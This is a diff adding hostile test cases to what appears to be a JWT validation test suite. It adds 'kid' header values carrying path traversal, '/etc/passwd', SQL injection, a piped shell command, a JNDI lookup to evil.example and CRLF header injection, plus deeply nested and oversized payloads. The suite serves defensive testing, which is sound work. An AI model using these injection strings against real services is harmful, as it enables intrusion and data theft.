@@ -91,6 +91,17 @@ HEADERS = {
     "kid as a number": _headed(kid=1),
     "kid as a list": _headed(kid=["a"]),
     "kid as an object": _headed(kid={}),
+    "kid a path": _headed(kid="../../../../dev/null"),
+    "kid an absolute path": _headed(kid="/etc/passwd"),
+    "kid SQL": _headed(kid="x' UNION SELECT 'secret' --"),
+    "kid a command": _headed(kid="key|id"),
+    "kid a template": _headed(kid="${jndi:ldap://evil.example/a}"),
+    "kid with a null byte": _headed(kid="key\x00"),
+    "kid with a line feed": _headed(kid="key\r\nX-Tenant-Id: globex"),
+    "kid empty": _headed(kid=""),
+    "kid very long": _headed(kid="k" * 300),
+    "a password-based header": _headed(p2c=10**9, p2s="c2FsdA"),
+    "an ephemeral key": _headed(epk=jwk(ec_key())),
     "jku": _headed(jku="https://evil.example/keys"),
     "jwk": _headed(jwk=jwk(rsa_key("attacker"))),
     "x5u": _headed(x5u="https://evil.example/chain"),
@@ -198,6 +209,12 @@ PAYLOADS = {
     "payload with invalid UTF-8": sign(as_json(claims())[:-1] + b',"n":"\xff"}'),
     "payload with an overlong encoding": sign(as_json(claims())[:-1] + b',"n":"\xc0\xae"}'),
     "payload nested deeply": sign(as_json(claims())[:-1] + b',"n":' + b"[" * 2500 + b"]" * 2500 + b"}"),
+    "payload nested as deep as JSON goes": sign(
+        as_json(claims())[:-1] + b',"n":' + b"[" * 400 + b"]" * 400 + b"}"
+    ),
+    "payload with objects nested deeply": sign(
+        as_json(claims())[:-1] + b',"n":' + b'{"a":' * 40 + b"1" + b"}" * 41
+    ),
     "payload with a number of thousands of digits": _bodied('"n":' + "9" * 5000),
     "company twice, another last": _bodied('"company_id":"globex"'),
     "company twice, the same": _bodied('"company_id":"acme"'),
@@ -228,6 +245,7 @@ TIMES = {
     "exp a huge float": token(exp=1e308),
     "exp of two to the 63rd": token(exp=2**63),
     "exp in milliseconds": token(exp=(NOW + 600) * 1000),
+    "exp one digit too long": token(exp=99_999_999_999),
     "exp NaN": _raw(json.dumps(claims(exp=float("nan")))),
     "exp Infinity": _raw(json.dumps(claims(exp=float("inf")))),
     "exp beyond every float": _raw(json.dumps(claims(exp=0)).replace('"exp": 0', '"exp": 1e999')),
@@ -290,6 +308,7 @@ IDENTITY = {
     "scope a list of lists": token(scope=[["admin"]]),
 }
 COMPANY = {
+    "company very long": token(company_id="a" * 256),
     "company missing": token(company_id=...),
     "company null": token(company_id=None),
     "company empty": token(company_id=""),
